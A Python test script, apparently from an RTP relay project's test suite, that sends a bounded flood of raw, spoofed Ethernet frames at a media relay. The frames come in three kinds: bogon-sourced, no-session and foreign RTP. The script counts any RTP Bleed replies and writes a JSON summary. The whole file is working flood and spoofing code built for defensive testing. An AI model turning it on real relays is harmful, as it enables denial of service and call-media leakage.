#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-3-Clause
"""rtpb_flood: a bounded flood of crafted frames at the relay (issue 5).

Run in the attacker's namespace.  Sends raw Ethernet frames on an
AF_PACKET socket (so the source address can be anything, bogons
included) as fast as a Python loop goes, for at most --seconds and at most
--max-count frames, rotating three kinds:

  no_session  UDP/RTP from the attacker to relay ports nobody holds;
  bogon       UDP/RTP to the call's ports from bogon sources (127.0.0.1,
              0.0.0.5, 224.0.0.1, 255.255.255.255, the relay itself, and
              the attacker with source port 0);
  foreign     RTP to the call's ports from the attacker's own address
              and port (a random SSRC and sequence number per frame), the
              kind the prefilter's per-stream budget throttles.

It also listens on the attacker's UDP port, so anything the relay would
send back (RTP Bleed) is counted.  Writes a JSON summary: frames sent per
kind, frames received back.  Needs root (AF_PACKET).

  rtpb_flood.py --iface eth0 --src-mac MAC --dst-mac MAC --src IP --port P
      --relay IP --call-ports P1,P2,.. --no-session-ports LO:HI
      --seconds S --max-count N --json OUT
"""

import argparse
import json
import random
import socket
import struct
import time

BOGONS = ('127.0.0.1', '0.0.0.5', '224.0.0.1', '255.255.255.255')


def csum(data):
    if len(data) % 2:
        data += b'\0'
    s = sum(struct.unpack('!%dH' % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff


def mac(s):
    return bytes(int(x, 16) for x in s.split(':'))


def frame(dst_mac, src_mac, src, sport, dst, dport, payload):
    udp = struct.pack('!HHHH', sport, dport, 8 + len(payload), 0) + payload
    ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(udp), 0, 0x4000, 64, 17, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    ip = ip[:10] + struct.pack('!H', csum(ip)) + ip[12:]
    return dst_mac + src_mac + b'\x08\x00' + ip + udp


def rtp(rng):
    return struct.pack('!BBHII', 0x80, 0, rng.randrange(65536), rng.randrange(1 << 32),
                       rng.randrange(1, 1 << 32)) + b'ATCK' + bytes(156)


def main():
    ap = argparse.ArgumentParser(description=__doc__.split('\n')[0])
    ap.add_argument('--iface', required=True)
    ap.add_argument('--src-mac', required=True)
    ap.add_argument('--dst-mac', required=True)
    ap.add_argument('--src', required=True, help="the attacker's IPv4 address")
    ap.add_argument('--port', type=int, required=True, help="the attacker's UDP port")
    ap.add_argument('--relay', required=True)
    ap.add_argument('--call-ports', required=True)
    ap.add_argument('--no-session-ports', required=True, help='LO:HI')
    ap.add_argument('--seconds', type=float, default=3.0)
    ap.add_argument('--max-count', type=int, default=2000000)
    ap.add_argument('--linger-ms', type=int, default=500)
    ap.add_argument('--json', required=True)
    a = ap.parse_args()

    rng = random.Random(0x5eed)
    dmac, smac = mac(a.dst_mac), mac(a.src_mac)
    call_ports = [int(p) for p in a.call_ports.split(',')]
    lo, hi = (int(x) for x in a.no_session_ports.split(':'))
    # Prebuilt frames: the loop only sends (a few hundred of each kind).
    kinds = {
        'no_session': [frame(dmac, smac, a.src, a.port, a.relay, rng.randrange(lo, hi + 1),
                             rtp(rng)) for _ in range(256)],
        'bogon': [frame(dmac, smac, src, a.port, a.relay, p, rtp(rng))
                  for src in BOGONS + (a.relay,) for p in call_ports] +
                 [frame(dmac, smac, a.src, 0, a.relay, p, rtp(rng)) for p in call_ports],
        'foreign': [frame(dmac, smac, a.src, a.port, a.relay, p, rtp(rng))
                    for p in call_ports for _ in range(64)],
    }
    order = list(kinds)
    sent = {k: 0 for k in kinds}
    tx = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    tx.bind((a.iface, 0))
    rx = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    rx.bind((a.src, a.port))
    rx.setblocking(False)
    received, errors = 0, 0
    t0 = time.monotonic()
    end = t0 + a.seconds
    n = 0
    while n < a.max_count:
        if (n & 255) == 0 and time.monotonic() >= end:
            break
        k = order[n % 3]
        lst = kinds[k]
        try:
            tx.send(lst[(n // 3) % len(lst)])
            sent[k] += 1
        except OSError:
            errors += 1       # ENOBUFS: the frame did not leave, not counted
        n += 1
    elapsed = time.monotonic() - t0
    deadline = time.monotonic() + a.linger_ms / 1000.0
    while time.monotonic() < deadline:
        try:
            rx.recv(2048)
            received += 1
        except BlockingIOError:
            time.sleep(0.01)
    out = {'sent': sent, 'total': sum(sent.values()), 'send_errors': errors,
           'seconds': round(elapsed, 3), 'pps': int(sum(sent.values()) / max(elapsed, 1e-6)),
           'received': received}
    with open(a.json, 'w') as f:
        json.dump(out, f)
    print(json.dumps(out))


if __name__ == '__main__':
    main()
